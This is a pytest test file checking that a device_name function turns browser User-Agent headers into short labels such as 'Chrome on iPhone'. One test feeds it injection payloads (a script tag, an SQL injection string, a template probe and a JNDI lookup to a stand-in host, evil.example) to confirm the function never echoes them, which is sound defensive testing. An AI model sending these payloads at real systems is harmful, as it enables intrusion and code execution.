"""What people are told about the header that their browser sends."""

import pytest

from authentication.core.client import device_name
from tests.costs import assert_grows_with_length

WEBKIT = "AppleWebKit/537.36 (KHTML, like Gecko)"
IOS = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)"
MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)"
WINDOWS = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
ANDROID = "Mozilla/5.0 (Linux; Android 10; K)"


@pytest.mark.parametrize(
    ("header", "words"),
    [
        (f"{WINDOWS} {WEBKIT} Chrome/138.0.0.0 Safari/537.36", "Chrome on Windows"),
        (f"{MAC} {WEBKIT} Chrome/138.0.0.0 Safari/537.36", "Chrome on Mac"),
        (f"{ANDROID} {WEBKIT} Chrome/138.0.0.0 Mobile Safari/537.36", "Chrome on Android"),
        (f"{IOS} CriOS/138.0.7204.53 Mobile/15E148 Safari/604.1", "Chrome on iPhone"),
        (
            f"Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) {WEBKIT} Chrome/138.0.0.0 Safari/537.36",
            "Chrome on ChromeOS",
        ),
        (
            f"Mozilla/5.0 (X11; Linux x86_64) {WEBKIT} HeadlessChrome/138.0.0.0 Safari/537.36",
            "Chrome on Linux",
        ),
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Firefox/140.0",
            "Firefox on Windows",
        ),
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:140.0) Gecko/20100101 Firefox/140.0",
            "Firefox on Mac",
        ),
        (
            "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
            "Firefox on Linux",
        ),
        ("Mozilla/5.0 (Android 15; Mobile; rv:140.0) Gecko/140.0 Firefox/140.0", "Firefox on Android"),
        (f"{IOS} FxiOS/140.0 Mobile/15E148 Safari/605.1.15", "Firefox on iPhone"),
        (f"{MAC} AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15", "Safari on Mac"),
        (f"{IOS} Version/18.5 Mobile/15E148 Safari/604.1", "Safari on iPhone"),
        (
            "Mozilla/5.0 (iPad; CPU OS 17_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
            "Version/17.7 Mobile/15E148 Safari/604.1",
            "Safari on iPad",
        ),
        (f"{WINDOWS} {WEBKIT} Chrome/138.0.0.0 Safari/537.36 Edg/138.0.0.0", "Edge on Windows"),
        (f"{WINDOWS} {WEBKIT} Chrome/70.0.3538.102 Safari/537.36 Edge/18.19582", "Edge on Windows"),
        (f"{ANDROID} {WEBKIT} Chrome/138.0.0.0 Mobile Safari/537.36 EdgA/138.0.0.0", "Edge on Android"),
        (f"{IOS} Version/18.0 EdgiOS/138.0.3351.65 Mobile/15E148 Safari/604.1", "Edge on iPhone"),
        (f"{WINDOWS} {WEBKIT} Chrome/137.0.0.0 Safari/537.36 OPR/120.0.0.0", "Opera on Windows"),
        ("Opera/9.80 (Windows NT 6.1; WOW64) Presto/2.12.388 Version/12.18", "Opera on Windows"),
        (f"{MAC} {WEBKIT} Chrome/138.0.0.0 Safari/537.36 Vivaldi/7.5.3735.44", "Vivaldi on Mac"),
        (
            f"{ANDROID} {WEBKIT} SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36",
            "Samsung Internet on Android",
        ),
        ("PostmanRuntime/7.44.1", "Postman"),
        ("curl/8.14.1", "curl"),
        ("python-requests/2.32.4", "a Python program"),
        ("python-httpx/0.28.1", "a Python program"),
        ("Python-urllib/3.13", "a Python program"),
        ("Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko", "Windows"),
        ("okhttp/4.12.0", "Unknown device"),
        ("", "Unknown device"),
        ("Mozilla/5.0", "Unknown device"),
        ("-", "Unknown device"),
        ("K\u00fchlschrank", "Unknown device"),
    ],
)
def test_a_user_agent_is_described_in_words(header: str, words: str) -> None:
    assert device_name(header) == words


def test_a_user_agent_cut_at_256_characters_is_described_by_the_rest() -> None:
    padded = f"{WINDOWS} {'x' * 300} Firefox/140.0"[:256]

    assert device_name(padded) == "Windows"


@pytest.mark.parametrize(
    "header",
    [
        "Mozilla/5.0 <script>alert(1)</script>",
        "' OR 1=1 --",
        "{{7*7}} ${jndi:ldap://evil.example/a}",
        "Chrome",
        "firefox/140.0",
        "I use a Python",
    ],
)
def test_an_unknown_user_agent_is_not_echoed(header: str) -> None:
    assert device_name(header) == "Unknown device"


@pytest.mark.parametrize("part", ["Version/", "Version/ ", "Version/1 ", "Safari", "Edg", " ", "\u202e"])
def test_the_time_to_read_a_header_grows_with_its_length_at_most(part: str) -> None:
    def read(length: int) -> None:
        for _ in range(100):
            device_name((part * length)[:length])

    assert_grows_with_length(read, 256)
